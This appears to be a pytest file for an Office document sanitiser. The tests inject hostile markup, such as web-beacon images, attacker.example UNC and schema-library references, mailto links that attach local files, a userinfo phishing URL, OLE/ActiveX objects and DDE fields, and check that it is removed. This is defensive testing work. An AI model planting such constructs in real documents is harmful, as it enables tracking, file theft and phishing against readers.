    body = ('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office" o:gfxdata="UEsDBBQABgAIAAAAIQ" '
            'style="width:10pt;height:10pt"/></w:pict></w:r><w:r><w:t>残す</w:t></w:r></w:p>')
    outcome, codes, output = sanitize(word_body(tmp_path, body, "gfxdata.docx"), tmp_path)
    assert outcome == "sanitized" and "unknown_markup_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read("word/document.xml").decode()
    assert "gfxdata" not in written and "UEsDB" not in written and "v:shape" in written and "残す" in written


def test_instruction_text_standing_alone_in_a_part_without_fields_is_removed() -> None:
    """A stray w:instrText (no fldChar anywhere in the part, e.g. in fontTable.xml, inside a
    markup-compatibility Choice) is never a field Word runs, and is not kept either (found by fuzzing)."""
    from lxml import etree

    from converters.formats.ooxml.fields import neutralise_fields

    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    mc = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    root = etree.fromstring(
        f'<w:fonts xmlns:w="{w}" xmlns:mc="{mc}"><w:font w:name="Calibri"><mc:AlternateContent>'
        '<mc:Choice Requires="w14"><w:r><w:instrText>DDE</w:instrText></w:r></mc:Choice>'
        '<mc:Fallback><w:r><w:instrText>DATE</w:instrText></w:r></mc:Fallback></mc:AlternateContent></w:font></w:fonts>')
    notes: list[tuple[str, str]] = []
    neutralise_fields(root, "word/fontTable.xml", lambda code, detail: notes.append((code, detail)))
    assert not list(root.iter(f"{{{w}}}instrText"))
    assert [code for code, _ in notes] == ["field_removed", "field_removed"]


def test_a_field_character_of_no_known_type_is_removed() -> None:
    """w:fldCharType is begin, separate or end; any other value ("rid1", "日本語") marks nothing and
    was kept, which the inspector flagged (found by this session's final fuzzing campaign)."""
    from lxml import etree

    from converters.formats.ooxml.fields import neutralise_fields

    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    root = etree.fromstring(
        f'<w:document xmlns:w="{w}"><w:body><w:p><w:r><w:fldChar w:fldCharType="日本語"/></w:r>'
        '<w:r><w:t>本文</w:t></w:r><w:r><w:fldChar w:fldCharType="rid1"/></w:r></w:p></w:body></w:document>')
    notes: list[tuple[str, str]] = []
    neutralise_fields(root, "word/document.xml", lambda code, detail: notes.append((code, detail)))
    assert not list(root.iter(f"{{{w}}}fldChar")) and "本文" in "".join(root.itertext())
    assert [code for code, _ in notes] == ["field_removed", "field_removed"]


@pytest.mark.parametrize(("markup", "code"), [
    ('<oleObject progId="Package" r:id="rId9" shapeId="1025"/>', "embedded_object_removed"),
    ('<control shapeId="1025" r:id="rId9" name="CommandButton1"/>', "activex_removed"),
    ('<externalReference r:id="rId9"/>', "external_link_removed"),
    ('<webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="\\\\host\\s\\a.htm"/>',
     "external_link_removed"),
])
def test_a_spreadsheet_element_outside_its_container_is_still_removed(tmp_path: Path, markup: str, code: str) -> None:
    """The fuzzing campaign moved an oleObject out of oleObjects into workbook.xml: the rebuild removed
    only the container, the inspector saw the element (verification_failed). Removed wherever it stands."""
    book = xlsx_with_formulas(tmp_path)
    attacked = inject(book, tmp_path / "moved.xlsx", "xl/workbook.xml",
                      markup.replace("r:id", f'xmlns:r="{REL}" r:id'))
    outcome, codes, output = sanitize(attacked, tmp_path)
    assert outcome == "sanitized" and code in codes and output is not None
    with zipfile.ZipFile(output) as package:
        workbook = package.read("xl/workbook.xml").decode()
    assert markup.split()[0] not in workbook
    assert inspect_file(output, tmp_path).clean


@pytest.mark.parametrize("regression", ["dc2bad79e205-ooxml.bin", "93d5fc3a2cb0-ooxml.bin", "a7afcb6e5476-ooxml.bin"])
def test_fuzzed_workbooks_with_a_moved_ole_object_are_disarmed(tmp_path: Path, regression: str) -> None:
    source = Path(__file__).resolve().parents[2] / "fuzz" / "regressions" / regression
    report = run_engine(source, tmp_path / "out", name="book.xlsm")
    assert report.outcome == "sanitized", report.reason
    assert "embedded_object_removed" in {f.code for f in report.findings}


LINK_REFERENCES = {  # elements that load what their relationship names, each naming a web link instead
    "blip-link": '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
                 'r:link="rIdWeb"/></w:drawing></w:r></w:p>',
    "blip-embed": '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
                  'r:embed="rIdWeb"/></w:drawing></w:r></w:p>',
    "vml-imagedata-r-id": '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt">'
                          '<v:imagedata r:id="rIdWeb"/></v:shape></w:pict></w:r></w:p>',
    "vml-imagedata-o-relid": '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt">'
                             '<v:imagedata xmlns:o="urn:schemas-microsoft-com:office:office" o:relid="rIdWeb"/>'
                             '</v:shape></w:pict></w:r></w:p>',
    "header-reference": '<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rIdWeb"/></w:sectPr>'
                        '</w:pPr></w:p>',
    "movie": '<w:p><w:r><w:pict><w:movie r:id="rIdWeb"/></w:pict></w:r></w:p>',
}


@pytest.mark.parametrize("where", sorted(LINK_REFERENCES))
def test_only_a_hyperlink_may_name_a_web_link_relationship(tmp_path: Path, where: str) -> None:
    """A web link relationship is kept for hyperlinks; a picture, header or movie naming it was kept
    too, and LibreOffice fetched the picture from that address on opening (a web beacon). The
    reference goes; the hyperlink naming the same relationship stays."""
    body = (LINK_REFERENCES[where] + '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>市のページ</w:t></w:r>'
            "</w:hyperlink></w:p>")
    source = word_body(tmp_path, body, "plain.docx")
    with zipfile.ZipFile(source) as package:
        rels = package.read("word/_rels/document.xml.rels").decode()
    rels = rels.replace("</Relationships>", f'<Relationship Id="rIdWeb" Type="{REL}/hyperlink" '
                                            'Target="http://beacon.example/p.png" TargetMode="External"/>'
                                            "</Relationships>")
    attacked = edit_package(source, tmp_path / f"{where}.docx", {"word/_rels/document.xml.rels": rels.encode()})
    outcome, codes, output = sanitize(attacked, tmp_path)
    assert outcome == "sanitized" and "external_link_removed" in codes and output is not None
    from lxml import etree

    with zipfile.ZipFile(output) as package:
        root = etree.fromstring(package.read("word/document.xml"))
        assert "http://beacon.example/p.png" in package.read("word/_rels/document.xml.rels").decode()
    naming = [etree.QName(owner).localname for owner in root.iter() for name, value in owner.attrib.items()
              if value == "rIdWeb" and name.endswith(("}id", "}link", "}embed", "}relid"))]
    assert naming == ["hyperlink"]
    assert "市のページ" in "".join(root.itertext())
    assert inspect_file(output, tmp_path).clean


def test_a_form_control_shape_goes_and_the_comment_stays(tmp_path: Path) -> None:
    """A worksheet with an Excel form check box (a VML shape whose ClientData is not a note, its
    properties part and the sheet's controls) kept the shape: the inspector blocked every such
    workbook (a municipal form with check boxes arrived as nothing). The shape goes; the comment stays."""
    path = tmp_path / "form.xlsx"
    book = xlsxwriter.Workbook(str(path))
    book.add_worksheet("申請").write_comment("A1", "確認済み ①")
    book.close()
    with zipfile.ZipFile(path) as package:
        vml_name = next(n for n in package.namelist() if n.endswith(".vml"))
        vml = package.read(vml_name).decode()
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
        rels = package.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
        types = package.read("[Content_Types].xml").decode()
    box = ('<v:shape id="_x0000_s2049" type="#_x0000_t201" style="position:absolute;width:90pt;height:18pt">'
           '<v:textbox><div>同意する</div></v:textbox><x:ClientData ObjectType=" checkBox "><x:Anchor>1, 0, 2, 0, '
           "3, 0, 3, 0</x:Anchor><x:FmlaLink>$C$1</x:FmlaLink><x:Checked>1</x:Checked></x:ClientData></v:shape>")
    control = '<controls><control shapeId="2049" r:id="rIdCtl" name="Check Box 1"/></controls>'
    edits: dict[str, bytes | None] = {
        vml_name: vml.replace("</xml>", box + "</xml>").encode(),
        "xl/worksheets/sheet1.xml": re.sub(r"(<legacyDrawing [^>]*/>)", r"\1" + control, sheet).encode(),
        "xl/worksheets/_rels/sheet1.xml.rels": rels.replace("</Relationships>", (
            '<Relationship Id="rIdCtl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'ctrlProp" Target="../ctrlProps/ctrlProp1.xml"/></Relationships>')).encode(),
        "[Content_Types].xml": types.replace("</Types>", (
            '<Override PartName="/xl/ctrlProps/ctrlProp1.xml" ContentType="application/vnd.ms-excel.controlproperties'
            '+xml"/></Types>')).encode(),
        "xl/ctrlProps/ctrlProp1.xml": (b'<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/'
                                       b'2009/9/main" objectType="CheckBox" checked="Checked" fmlaLink="$C$1"/>'),
    }
    assert "r:id" in control and 'xmlns:r="' in sheet
    outcome, codes, output = sanitize(edit_package(path, tmp_path / "checkbox.xlsx", edits), tmp_path)
    assert outcome == "sanitized" and "activex_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read(vml_name).decode()
        comment = package.read("xl/comments1.xml").decode()
    assert "checkBox" not in written and "同意する" not in written and "FmlaLink" not in written
    assert 'ObjectType="Note"' in written and "確認済み" in comment
    assert inspect_file(output, tmp_path).clean


@pytest.mark.parametrize(("action", "kept"), [
    ("ppaction://hlinksldjump/../program", False), ("PPACTION://HLINKSHOWJUMP.program", False),
    ("ppaction://noactionx", False), ("ppaction://hlinkshowjump?jump=nextslide", True),
    ("ppaction://customshow?id=0&amp;return=true", True),
])
def test_a_powerpoint_action_is_judged_by_its_whole_verb(tmp_path: Path, action: str, kept: bool) -> None:
    """The rebuild kept any action that began with a safe verb; the inspector compares the verb
    whole and blocked such a slide (verification_failed)."""
    source = pptx_file(tmp_path)
    with zipfile.ZipFile(source) as package:
        slide = package.read("ppt/slides/slide1.xml").decode()
    slide = re.sub(r'(<p:cNvPr id="2" name="[^"]*")/>', rf'\1><a:hlinkClick r:id="" action="{action}"/></p:cNvPr>',
                   slide, count=1)
    assert "hlinkClick" in slide
    outcome, codes, output = sanitize(edit_package(source, tmp_path / "action.pptx",
                                                   {"ppt/slides/slide1.xml": slide.encode()}), tmp_path)
    assert output is not None and (outcome, "active_link_removed" in codes) == (
        ("passed", False) if kept else ("sanitized", True))
    with zipfile.ZipFile(output) as package:
        assert ("hlinkClick" in package.read("ppt/slides/slide1.xml").decode()) == kept
    assert inspect_file(output, tmp_path).clean


def test_a_charts_data_label_range_is_a_formula_too(tmp_path: Path) -> None:
    """Excel 2013 keeps a data-label range as c15:f in the chart's extension list; the rebuild did
    not read it, so one naming another workbook stayed and the inspector blocked the workbook."""
    path = tmp_path / "labels.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("予算")
    sheet.write_column("A1", [1, 2, 3])
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": "=予算!$A$1:$A$3"})
    sheet.insert_chart("C1", chart)
    book.close()
    with zipfile.ZipFile(path) as package:
        text = package.read("xl/charts/chart1.xml").decode()
    c15 = 'xmlns:c15="http://schemas.microsoft.com/office/drawing/2012/chart"'
    ranges = {"outside": "'\\\\attacker.example\\s\\[a.xlsx]S'!$A$1:$A$3", "local": "予算!$B$1:$B$3"}
    for which, reference in ranges.items():
        hostile = text.replace("</c:ser>", f'<c:extLst><c:ext uri="{{02D57815-91ED-43cb-92C2-25804820EDAC}}" {c15}>'
                                           f"<c15:datalabelsRange><c15:f>{reference}</c15:f></c15:datalabelsRange>"
                                           "</c:ext></c:extLst></c:ser>", 1)
        source = edit_package(path, tmp_path / f"{which}.xlsx", {"xl/charts/chart1.xml": hostile.encode()})
        outcome, codes, output = sanitize(source, tmp_path)
        assert outcome == ("sanitized" if which == "outside" else "passed") and output is not None
        assert ("excel_external_formula_removed" in codes) == (which == "outside")
        with zipfile.ZipFile(output) as package:
            written = package.read("xl/charts/chart1.xml").decode()
        assert ("c15:f" in written) == (which == "local") and "attacker" not in written
        assert inspect_file(output, tmp_path).clean, which


def test_a_schema_library_naming_where_to_load_schemas_from_goes(tmp_path: Path) -> None:
    """Word's settings may carry sl:schemaLibrary: the file, share or URL to load an XML schema and
    its manifest from. The rebuild kept it (its names are in the schemas) and the inspector, which
    allows no such namespace, blocked the document (verification_failed)."""
    source = base_docx(tmp_path)
    with zipfile.ZipFile(source) as package:
        settings = package.read("word/settings.xml").decode()
    library = ('<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema '
               'sl:uri="urn:x-form" sl:manifestLocation="http://attacker.example/m.xml" '
               'sl:schemaLocation="\\\\attacker.example\\share\\s.xsd"/></sl:schemaLibrary>')
    hostile = edit_package(source, tmp_path / "schemas.docx", {
        "word/settings.xml": settings.replace("</w:settings>", library + "</w:settings>").encode()})
    outcome, codes, output = sanitize(hostile, tmp_path)
    assert outcome == "sanitized" and "external_link_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read("word/settings.xml").decode()
    assert "schemaLibrary" not in written and "attacker" not in written
    assert inspect_file(output, tmp_path).clean


def test_a_vml_source_at_a_web_address_goes_and_a_web_link_stays(tmp_path: Path) -> None:
    """VML's src is loaded when the document opens: a web address was kept there like a link's,
    and the inspector (any address in src is a problem) blocked the document. A shape's href to
    the web stays, it only leads there when clicked."""
    body = ('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="https://www.example.lg.jp/" '
            'style="width:20pt;height:20pt"><v:imagedata src="http://beacon.example/v.png"/>'
            '<v:fill src=" HTTPS://beacon.example/f.png" type="frame"/></v:shape></w:pict></w:r></w:p>')
    outcome, codes, output = sanitize(word_body(tmp_path, body, "vml-src.docx"), tmp_path)
    assert outcome == "sanitized" and "external_link_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read("word/document.xml").decode()
    assert "beacon" not in written and 'href="https://www.example.lg.jp/"' in written
    assert inspect_file(output, tmp_path).clean


@pytest.mark.parametrize("target", ["http://198.51.100.7/beacon.png", "\\\\198.51.100.7\\s\\a.png", "file:///C:/a.png",
                                    "C:\\Users\\a.png"])
def test_an_address_without_external_target_mode_is_said_not_silently_dropped(tmp_path: Path, target: str) -> None:
    """Word reads such a relationship as a part name and finds nothing; it is not kept, and the report
    says an outside reference was removed instead of "passed" with nothing said."""
    attacked = inject(base_docx(tmp_path), tmp_path / "address.docx", "word/_rels/document.xml.rels",
                      f'<Relationship Id="rIdX" Type="{REL}/image" Target="{target}"/>')
    outcome, codes, output = sanitize(attacked, tmp_path)
    assert outcome == "sanitized" and "external_link_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        assert "rIdX" not in package.read("word/_rels/document.xml.rels").decode()


def test_a_mailto_link_that_attaches_a_file_goes_and_a_plain_one_stays(tmp_path: Path) -> None:
    """mailto:?attach= names a file of the reader's computer that several mail programs attach: the
    relationship, the HYPERLINK field and the HYPERLINK formula keep only a message's own fields."""
    attach = "mailto:soumu@city.example.lg.jp?subject=%E8%A6%8B%E7%A9%8D&amp;attach=C:%5CUsers%5Ca%5Csecret.xlsx"
    plain = "mailto:soumu@city.example.lg.jp?subject=%E8%A6%8B%E7%A9%8D"
    body = ('<w:p><w:hyperlink r:id="rIdM1"><w:r><w:t>添付して送る</w:t></w:r></w:hyperlink>'
            '<w:hyperlink r:id="rIdM2"><w:r><w:t>問合せ</w:t></w:r></w:hyperlink></w:p>'
            + field_runs([f'HYPERLINK "{attach}"'], "欄"))
    attacked = inject(word_body(tmp_path, body, "mail.docx"), tmp_path / "mail-links.docx",
                      "word/_rels/document.xml.rels",
                      f'<Relationship Id="rIdM1" Type="{REL}/hyperlink" Target="{attach}" TargetMode="External"/>'
                      f'<Relationship Id="rIdM2" Type="{REL}/hyperlink" Target="{plain}" TargetMode="External"/>')
    outcome, codes, output = sanitize(attacked, tmp_path)
    assert outcome == "sanitized" and "external_link_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read("word/_rels/document.xml.rels").decode() + package.read("word/document.xml").decode()
    assert "attach" not in written and plain.replace("&amp;", "&") in written.replace("&amp;", "&")
    assert inspect_file(output, tmp_path).clean
    assert formula_problem('HYPERLINK("mailto:a@example.jp?attach=C:\\secret.xlsx","x")') is not None
    assert formula_problem('HYPERLINK("mailto:a@example.jp?subject=x","x")') is None


def test_a_web_link_naming_a_user_before_its_host_is_not_kept(tmp_path: Path) -> None:
    """https://www.city.example.lg.jp@attacker.example/ reads as the city's site and opens attacker.example."""
    phishing = "https://www.city.example.lg.jp@attacker.example/login"
    document = word_body(tmp_path, '<w:p><w:hyperlink r:id="rIdP"><w:r><w:t>市のサイト</w:t></w:r></w:hyperlink></w:p>',
                         "phish.docx")
    attacked = inject(document, tmp_path / "phishing.docx", "word/_rels/document.xml.rels",
                      f'<Relationship Id="rIdP" Type="{REL}/hyperlink" Target="{phishing}" TargetMode="External"/>')
    outcome, codes, output = sanitize(attacked, tmp_path)
    assert outcome == "sanitized" and "external_link_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        assert "attacker.example" not in package.read("word/_rels/document.xml.rels").decode()
        assert "市のサイト" in package.read("word/document.xml").decode()
